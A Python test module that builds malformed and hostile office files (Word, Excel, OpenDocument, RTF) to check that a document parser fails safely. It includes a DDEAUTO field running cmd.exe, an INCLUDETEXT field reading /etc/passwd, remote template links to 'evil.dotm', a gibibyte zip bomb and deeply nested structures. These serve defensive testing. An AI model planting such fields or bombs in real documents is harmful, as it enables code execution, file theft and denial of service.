"""Word, Excel, PowerPoint, OpenDocument and RTF files that are locked, looped, deep or wide."""

import io
import zipfile
from collections.abc import Iterator

from corpus.nasty import packages, zips
from corpus.nasty.compound import compound
from corpus.nasty.model import ANY, FAILED, PARTLY, READ, READABLE, SENTENCE, Case, Fate
from corpus.nasty.packages import SAID, cell, docx, open_document, paragraph, relations, text_paragraph, xlsx
from corpus.nasty.zips import Raw

GOOD = Fate(READ, says=SENTENCE)
READ_OR_PARTLY = Fate(READABLE, says=SENTENCE)
LOCKED = Fate(FAILED, "password-protected")
STOPPED = Fate(ANY, "limit-exceeded|damaged|timeout")
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_ROWS = 1_048_576


def _remote() -> bytes:
    picture = f'<w:p><w:r><w:drawing><a:blip xmlns:a="{_DRAWING}/main" r:link="rId2"/></w:drawing></w:r></w:p>'
    targets = relations(
        ("attachedTemplate", "http://127.0.0.1:9/evil.dotm", "External"),
        ("image", "http://127.0.0.1:9/pixel.png", "External"),
        ("settings", "settings.xml"),
    )
    settings = f'<w:settings {packages.WORD}><w:attachedTemplate r:id="rId1"/></w:settings>'
    inside = relations(("attachedTemplate", "\\\\127.0.0.1\\share\\evil.dotm", "External"))
    return docx(
        SAID + picture,
        extra={
            "word/_rels/document.xml.rels": targets,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": inside,
        },
    )


def _fields() -> bytes:
    field = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
    included = '<w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; ">'
    run = "<w:r><w:t>shown</w:t></w:r></w:fldSimple>"
    return docx(f"{SAID}{field}{run}</w:p><w:p>{included}{run}</w:p>")


def _alternative_chunks() -> bytes:
    """A part that is said to be another document, and is the main part itself."""
    body = f'{SAID}<w:altChunk r:id="rId1"/>' * 3
    return docx(body, extra={"word/_rels/document.xml.rels": relations(("aFChunk", "document.xml"))})


def _duplicate_parts() -> bytes:
    """Two main parts of the same name."""
    whole = docx(SAID)
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        raws = [Raw(name.encode(), archive.read(name)) for name in archive.namelist()]
    other = Raw(b"word/document.xml", raws[2].content.replace(b"Acorn", b"Other"))
    return zips.archive([*raws, other, Raw(b"WORD\\Document.xml", raws[2].content)])


def _nested_tables(levels: int) -> bytes:
    begin = "<w:tbl><w:tr><w:tc>"
    end = "<w:p/></w:tc></w:tr></w:tbl>"
    return docx(SAID + begin * levels + paragraph("innermost") + end * levels)


def _open_tables(levels: int) -> bytes:
    begin = "<table:table><table:table-row><table:table-cell>"
    end = "</table:table-cell></table:table-row></table:table>"
    return open_document(text_paragraph(SENTENCE) + begin * levels + text_paragraph("innermost") + end * levels)


def _million_rows() -> bytes:
    """A sheet with all rows that a sheet can have, written and packed as it comes."""
    whole = packages.workbook("@")
    sheet = str(whole.pop("xl/worksheets/sheet1.xml"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in whole.items():
            archive.writestr(_dated(name), content)
        with archive.open(_dated("xl/worksheets/sheet1.xml"), "w") as stream:
            assert sheet == "@"
            for piece in _rows():
                stream.write(piece.encode())
    return out.getvalue()


def _dated(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def _rows() -> Iterator[str]:
    yield f"<worksheet {packages.SHEET}><sheetData>"
    for first in range(1, _ROWS, 4096):
        numbers = range(first, min(first + 4096, _ROWS + 1))
        yield "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in numbers)
    yield "</sheetData></worksheet>"


def _table(rows: str) -> bytes:
    name = f'<table:table table:name="Prices"><table:table-row><table:table-cell>{text_paragraph(SENTENCE)}'
    return open_document(f"{name}</table:table-cell></table:table-row>{rows}</table:table>", kind="spreadsheet")


def _repeated(content: str, rows: int, columns: int) -> bytes:
    return _table(
        f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
        f'table:number-columns-repeated="{columns}">{content}</table:table-cell></table:table-row>'
    )


def _rtf(body: str) -> bytes:
    return f"{{\\rtf1\\ansi\\ansicpg1252 {body.replace('£', chr(92) + chr(39) + 'a3')}}}".encode("ascii")


def _rtf_says(behind: str) -> bytes:
    return _rtf(f"{SENTENCE}\\par {behind}")


def cases() -> list[Case]:
    """All of them."""
    return [*_word(), *_open_documents(), *_sheets(), *_rich_text()]


def _word() -> list[Case]:
    row = '<row r="1">' + cell("A1", SENTENCE) + "</row>"
    locked = {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>", "EncryptedPackage": bytes(5000)}
    return [
        Case("docx-with-remote-parts.docx", "A template and a picture from elsewhere.", _remote, READ_OR_PARTLY),
        Case("docx-with-fields-that-run-programs.docx", "DDEAUTO and INCLUDETEXT.", _fields, READ_OR_PARTLY),
        Case(
            "docx-with-macros.docm",
            "Macros, which are never run.",
            lambda: docx(SAID, kind="macro", extra={"word/vbaProject.bin": compound({"VBA": bytes(5000)})}),
            READ_OR_PARTLY,
        ),
        Case(
            "docx-that-includes-itself.docx", "Its alternative chunks are itself.", _alternative_chunks, READ_OR_PARTLY
        ),
        Case("docx-with-duplicate-parts.docx", "Three main parts of one name.", _duplicate_parts, Fate(READABLE)),
        Case(
            "docx-with-tables-15-deep.docx", "Fifteen tables in each other.", lambda: _nested_tables(15), READ_OR_PARTLY
        ),
        Case("docx-with-tables-5000-deep.docx", "Five thousand.", lambda: _nested_tables(5000), STOPPED),
        Case(
            "docx-without-main-part.docx",
            "A package that lacks its document.",
            lambda: zips.packed(
                {
                    "[Content_Types].xml": packages.content_types(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "word/document.xml",
                    )
                }
            ),
            Fate(FAILED, "damaged"),
        ),
        Case("docx-locked.docx", "Under a password.", lambda: compound(locked), LOCKED),
        Case("xlsx-locked.xlsx", "A workbook under a password.", lambda: compound(locked), LOCKED),
        Case(
            "xlsx-as-docx.docx",
            "A workbook that says it is a document.",
            lambda: xlsx(row),
            Fate(READ, "name-mismatch"),
        ),
    ]


def _open_documents() -> list[Case]:
    said = text_paragraph(SENTENCE)
    return [
        Case("odt-locked.odt", "Under a password.", lambda: open_document(said, encrypted=True), LOCKED),
        Case(
            "ods-locked.ods",
            "A sheet under a password.",
            lambda: open_document("", kind="spreadsheet", encrypted=True),
            LOCKED,
        ),
        Case("odt-with-tables-15-deep.odt", "Fifteen tables in each other.", lambda: _open_tables(15), READ_OR_PARTLY),
        Case("odt-with-tables-5000-deep.odt", "Five thousand.", lambda: _open_tables(5000), STOPPED),
        Case(
            "odt-with-a-billion-blanks.odt",
            "One element stands for a billion blanks.",
            lambda: open_document(f'{said}<text:p>a<text:s text:c="1000000000"/>b</text:p>'),
            Fate(ANY, "limit-exceeded|damaged"),
        ),
        Case(
            "ods-with-blanks-to-the-edge.ods",
            "Empty cells repeated to the last row and column, as all have.",
            lambda: _repeated("", _ROWS - 1, 16_384),
            READ_OR_PARTLY,
        ),
        Case(
            "ods-with-values-to-the-edge.ods",
            "A value repeated 17 thousand million times.",
            lambda: _repeated("<text:p>1</text:p>", _ROWS - 1, 16_384),
            STOPPED,
        ),
    ]


def _sheets() -> list[Case]:
    row = '<row r="1">' + cell("A1", SENTENCE) + "</row>"
    last = '<row r="1048576">' + cell("XFD1048576", "last") + "</row>"
    wide = '<row r="1">' + cell("A1", SENTENCE) + "".join(cell(f"A{n}", "x") for n in range(1, 20_000)) + "</row>"
    return [
        Case(
            "xlsx-with-a-million-rows.xlsx",
            "All rows that a sheet can have.",
            _million_rows,
            Fate(READ, says="1048576"),
        ),
        Case(
            "xlsx-that-claims-every-cell.xlsx",
            "Says A1:XFD1048576, and has one cell.",
            lambda: xlsx(row, dimension="A1:XFD1048576"),
            READ_OR_PARTLY,
        ),
        Case(
            "xlsx-with-cells-in-the-corners.xlsx",
            "The first cell and the very last.",
            lambda: xlsx(row + last),
            READ_OR_PARTLY,
        ),
        Case(
            "xlsx-with-one-cell-20000-times.xlsx",
            "The same reference over and over.",
            lambda: xlsx(wide),
            Fate(READ, says=SENTENCE),
        ),
        Case(
            "xlsx-with-a-string-that-is-not-there.xlsx",
            "A shared string far behind the last.",
            lambda: xlsx('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
            Fate(PARTLY, "part-not-read"),
        ),
        Case("xlsx-sheet-bomb.xlsx", "A sheet of a gibibyte of blanks.", _sheet_bomb, Fate(FAILED, "limit-exceeded")),
    ]


def _sheet_bomb() -> bytes:
    raws = [
        Raw(name.encode(), content.encode() if isinstance(content, str) else content)
        for name, content in packages.workbook("").items()
        if name != "xl/worksheets/sheet1.xml"
    ]
    size = 1 << 30
    return zips.archive(
        [*raws, Raw(b"xl/worksheets/sheet1.xml", crc=zips.zeros_crc(size), size=size, packed=zips.zeros(size))]
    )


def _rich_text() -> list[Case]:
    deep = Fate(ANY, "limit-exceeded|damaged", "")
    return [
        Case(
            "rtf-groups-100000-deep.rtf",
            "A hundred thousand groups in each other.",
            lambda: _rtf_says("{" * 100_000 + "innermost" + "}" * 100_000),
            deep,
        ),
        Case(
            "rtf-whose-groups-never-end.rtf",
            "Ten thousand groups are opened and none is closed.",
            lambda: _rtf_says("{\\b " * 10_000),
            deep,
        ),
        Case(
            "rtf-with-a-linked-object.rtf",
            "An object that would fetch a page when it is opened.",
            lambda: _rtf_says("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}"),
            READ_OR_PARTLY,
        ),
        Case(
            "rtf-with-numbers-that-overflow.rtf",
            "Numbers of a thousand digits behind control words.",
            lambda: _rtf_says("\\fs" + "9" * 1000 + "\\u" + "9" * 1000 + "? \\bin" + "9" * 1000 + " x"),
            deep,
        ),
        Case(
            "rtf-with-binary-that-is-not-there.rtf",
            "Says that a gigabyte of binary data follows.",
            lambda: _rtf_says("\\bin1000000000 x"),
            deep,
        ),
    ]
